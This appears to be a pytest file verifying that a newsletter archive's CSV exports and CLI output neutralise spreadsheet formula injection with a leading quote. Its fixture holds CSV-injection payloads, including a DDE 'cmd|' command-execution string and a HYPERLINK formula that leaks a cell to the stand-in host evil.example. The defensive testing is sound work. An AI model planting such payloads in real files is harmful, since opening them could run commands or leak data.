"""CSV exports are safe to open in a spreadsheet: no cell of /search.csv, /figures.csv or
`scripts/archive figures --csv` is read as a formula (OWASP's CSV injection advice: a leading `'`).

A small archive whose story titles, text and figure sentences start with formulas is written and
indexed here; each export is read back as a spreadsheet would read it: the csv module splits the
cells, then the spreadsheet's rule says which of them are formulas.
"""

from __future__ import annotations

import csv
import io

import pytest
from conftest import built_archive

from index.config import Settings
from index.facade import Archive
from scripts.cli import main
from webapp import create_app

FORMULA_ISSUE = """\
## =cmd|' /C calc'!A0

=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report") IOM registered 7,801 victims of trafficking in Osh.

+cmd|' /C calc'!A0 IOM Tajikistan delivered water to 120 border villages with migrant families.

@SUM(1+1) IOM reached 450 migrants with legal aid in Khatlon.

- 330 migrants received medical care in Khatlon.
"""

def read_as_a_spreadsheet(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def is_formula(cell: str) -> bool:
    """How a spreadsheet (Excel, LibreOffice Calc, Google Sheets) decides that a cell is a formula."""
    return cell[:1] in ("\t", "\r", "\0") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def assert_no_formula(text: str, where: str) -> None:
    formulas = [cell[:60] for row in read_as_a_spreadsheet(text) for cell in row if is_formula(cell)]
    assert not formulas, (where, formulas)


def assert_sentences_kept_as_text(rows: list[list[str]]) -> None:
    """Each sentence that starts with a formula is there, as text: a `'` and then the sentence."""
    sentences = [row[rows[0].index("sentence")] for row in rows[1:]]
    for start in ("'=HYPERLINK(", "'+cmd|", "'@SUM(1+1) IOM reached 450", "'- 330 migrants"):
        assert any(sentence.startswith(start) for sentence in sentences), (start, sentences)


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    return built_archive(tmp_path_factory, "formula", {"formulas.md": FORMULA_ISSUE})


@pytest.fixture(scope="module")
def client(settings: Settings):
    archive = Archive.open(settings)
    yield create_app(archive=archive).test_client()
    archive.close()


def test_search_csv_neutralises_titles_and_text_that_start_with_a_formula(client):
    response = client.get("/search.csv?q=water+migrants+victims&mode=keyword&k=50")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "=cmd|" in text and "HYPERLINK" in text  # the rows are there
    assert_no_formula(text, "/search.csv")
    rows = read_as_a_spreadsheet(text)
    header = rows[0]
    assert {row[header.index("section")] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    assert any(row[header.index("text")].startswith("'=HYPERLINK(") for row in rows[1:])


def test_figures_csv_neutralises_sentences_that_start_with_a_formula(client):
    response = client.get("/figures.csv?sort=date&k=100")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert_sentences_kept_as_text(read_as_a_spreadsheet(text))
    assert_no_formula(text, "/figures.csv")


def test_the_command_line_figures_csv_neutralises_formulas(settings, monkeypatch, capsys):
    monkeypatch.setenv("ARCHIVE_DIR", str(settings.archive_dir))
    monkeypatch.setenv("ARCHIVE_INDEX_DIR", str(settings.index_dir))
    assert main(["figures", "--sort", "date", "--k", "100", "--csv"]) == 0
    text = capsys.readouterr().out
    assert_sentences_kept_as_text(read_as_a_spreadsheet(text))
    assert_no_formula(text, "scripts/archive figures --csv")


def test_the_command_line_csv_links_to_the_public_url(settings, monkeypatch, capsys):
    monkeypatch.setenv("ARCHIVE_DIR", str(settings.archive_dir))
    monkeypatch.setenv("ARCHIVE_INDEX_DIR", str(settings.index_dir))
    monkeypatch.setenv("ARCHIVE_PUBLIC_URL", "https://archive.example.org/newsletter/")
    assert main(["figures", "victims", "--csv"]) == 0
    rows = read_as_a_spreadsheet(capsys.readouterr().out)
    urls = [row[rows[0].index("url")] for row in rows[1:]]
    assert urls and all(url.startswith("https://archive.example.org/newsletter/passages/formulas-s1-") for url in urls)


def test_numbers_stay_numbers_and_plain_text_is_unchanged(client):
    rows = read_as_a_spreadsheet(client.get("/figures.csv?sort=date&k=100").get_data(as_text=True))
    header = rows[0]
    values = {row[header.index("value")] for row in rows[1:]}
    assert {"7801", "120", "450", "330"} <= values
    assert all(row[header.index("kind")] in ("count", "money", "percentage", "duration", "contact") for row in rows[1:])
